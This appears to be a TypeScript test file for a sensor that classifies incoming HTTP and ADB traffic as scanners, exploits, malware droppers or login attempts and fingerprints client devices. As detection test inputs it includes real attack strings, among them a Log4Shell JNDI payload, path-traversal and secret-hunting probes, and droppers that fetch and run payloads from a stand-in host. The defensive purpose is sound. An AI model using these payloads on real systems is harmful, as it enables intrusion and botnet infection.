import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { adbSignals, deviceFromJa4, deviceFromJa4t, deviceFromRequest, deviceFromUserAgent, httpSignals } from './signals.ts';

const ua = (v: string) => ({ Host: 'example.com', 'User-Agent': v });

describe('httpSignals', () => {
  it('should call HTTP libraries, tools and scanners programmatic, and browsers not', () => {
    for (const tool of [
      'curl/8.5.0',
      'python-requests/2.32.3',
      'Go-http-client/1.1',
      'Mozilla/5.0 zgrab/0.x',
      'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
      'Hello, World',
    ]) {
      assert.equal(httpSignals('GET', '/', ua(tool)).programmatic, true, tool);
    }
    assert.equal(httpSignals('GET', '/', { Host: 'x' }).programmatic, true, 'no User-Agent at all');
    assert.equal(
      httpSignals('GET', '/', {
        'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
      }).programmatic,
      false,
    );
  });

  it('should call exploit and secret-hunting paths malicious, and ordinary pages not', () => {
    for (const uri of [
      '/.env',
      '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
      '/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D',
      '/.git/config',
    ]) {
      assert.equal(httpSignals('GET', uri, ua('curl/8')).exploit, true, uri);
    }
    for (const uri of ['/', '/robots.txt', '/favicon.ico', '/blog/environment-tips', '/?utm_source=abc']) {
      assert.equal(httpSignals('GET', uri, ua('curl/8')).exploit, false, uri);
    }
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload as attackers send it, not a template
    assert.equal(httpSignals('GET', '/', { 'User-Agent': '${jndi:ldap://198.51.100.7/a}' }).exploit, true, 'payload in a header');
  });

  it('should see droppers in the URI and in the body', () => {
    assert.equal(httpSignals('GET', '/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws;sh+/tmp/jaws', ua('Hello, World')).dropper, true);
    const body =
      'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.7/gpon+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0';
    assert.equal(httpSignals('POST', '/GponForm/diag_Form?images/', ua('Hello, World'), body).dropper, true);
    assert.equal(httpSignals('GET', '/.env', ua('curl/8')).dropper, false);
  });

  it('should see login attempts only as POSTs to login endpoints', () => {
    assert.equal(httpSignals('POST', '/wp-login.php', ua('curl/8')).login, true);
    assert.equal(httpSignals('POST', '/user/login', ua('curl/8')).login, true);
    assert.equal(httpSignals('POST', '/api/auth/token', ua('curl/8')).login, true);
    assert.equal(httpSignals('GET', '/wp-login.php', ua('curl/8')).login, false);
    assert.equal(httpSignals('POST', '/authors', ua('curl/8')).login, false);
  });
});

describe('adbSignals', () => {
  it('should find droppers and name the families it knows', () => {
    assert.deepEqual(adbSignals('shell:cd /data/local/tmp; busybox wget http://198.51.100.7/w.sh; sh w.sh'), {
      dropper: true,
      family: 'MIRAI',
    });
    assert.deepEqual(adbSignals('shell:pm install /data/local/tmp/ufo.apk'), { dropper: true, family: undefined });
    assert.deepEqual(adbSignals('shell:am start -n com.ufo.miner/com.example.test.MainActivity'), { dropper: true, family: 'ADB_MINER' });
    assert.deepEqual(adbSignals('shell:cd /data/local/tmp; busybox wget http://h/fbot.arm7 -O fbot; chmod 777 fbot; ./fbot adb.arm7'), {
      dropper: true,
      family: 'FBOT',
    });
    assert.deepEqual(adbSignals('shell:getprop ro.product.model'), { dropper: false, family: undefined });
    assert.deepEqual(adbSignals('shell:ls -la /data/local/tmp'), { dropper: false, family: undefined });
  });
});

describe('deviceFromUserAgent', () => {
  const cases: ReadonlyArray<readonly [string, { os: string; version: string } | undefined]> = [
    [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
      { os: 'WINDOWS', version: '10' },
    ],
    ['Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36', { os: 'WINDOWS', version: '7' }],
    [
      'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36',
      { os: 'ANDROID', version: '14' },
    ],
    ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15', { os: 'IOS', version: '17.5.1' }],
    ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15', { os: 'MACOS', version: '10.15.7' }],
    ['Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36', { os: 'CHROME_OS', version: '' }],
    ['Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', { os: 'LINUX', version: '' }],
    ['Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36', { os: 'SMART_TV', version: '' }],
    ['Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15', { os: 'GAME_CONSOLE', version: '' }],
    ['Mozilla/5.0 (X11; FreeBSD amd64; rv:128.0) Gecko/20100101 Firefox/128.0', { os: 'OTHER', version: '' }],
    ['Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36', { os: 'OTHER', version: '' }],
    ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', undefined],
    ['curl/8.5.0', undefined],
  ];
  for (const [agent, want] of cases) {
    it(`should read ${want ? `${want.os} ${want.version}` : 'nothing'} from ${agent.slice(0, 48)}`, () => {
      assert.deepEqual(deviceFromUserAgent(agent), want);
    });
  }
});

describe('deviceFromRequest', () => {
  const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
  it('should read the device of a request that behaves like a browser', () => {
    assert.deepEqual(deviceFromRequest(httpSignals('GET', '/blog/', ua(chrome)), chrome), { os: 'WINDOWS', version: '10' });
    assert.deepEqual(deviceFromRequest(httpSignals('POST', '/login', ua(chrome)), chrome), { os: 'WINDOWS', version: '10' }, 'one login');
  });
  it('should name no device for a browser User-Agent on an exploit, a dropper or from a library', () => {
    assert.equal(deviceFromRequest(httpSignals('GET', '/.env', ua(chrome)), chrome), undefined);
    assert.equal(deviceFromRequest(httpSignals('GET', '/cgi-bin/x?;wget+http://198.51.100.7/a;sh+a', ua(chrome)), chrome), undefined);
    const mixed = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) zgrab/0.x';
    assert.equal(deviceFromRequest(httpSignals('GET', '/', ua(mixed)), mixed), undefined);
  });
});

describe('deviceFromJa4t', () => {
  it('should map unambiguous TCP stacks and leave the rest alone', () => {
    assert.equal(deviceFromJa4t('64240_2-1-3-1-1-4_1460_8')?.os, 'WINDOWS');
    assert.equal(deviceFromJa4t('65535_2-4-8-1-3_1400_9')?.os, 'ANDROID');
    assert.equal(deviceFromJa4t('64240_2-4-8-1-3_1460_7')?.os, 'LINUX');
    assert.equal(deviceFromJa4t('65535_2-1-3-1-1-8-4-0-0_1460_6'), undefined);
  });
});

describe('deviceFromJa4', () => {
  it("should map Windows' own TLS stack and leave cross-platform clients alone", () => {
    assert.deepEqual(deviceFromJa4('t12d190700_d83cc789557e_16bbda4055b2'), { os: 'WINDOWS', version: '' });
    assert.deepEqual(deviceFromJa4('t12i210700_76e208dd3e22_16bbda4055b2'), { os: 'WINDOWS', version: '' });
    assert.equal(deviceFromJa4('t13d1516h2_8daaf6152771_02713d6af862'), undefined, 'Chromium, on every OS');
    assert.equal(deviceFromJa4('t13d190900_9dc949149365_97f8aa674fd9'), undefined, 'Go');
  });
});
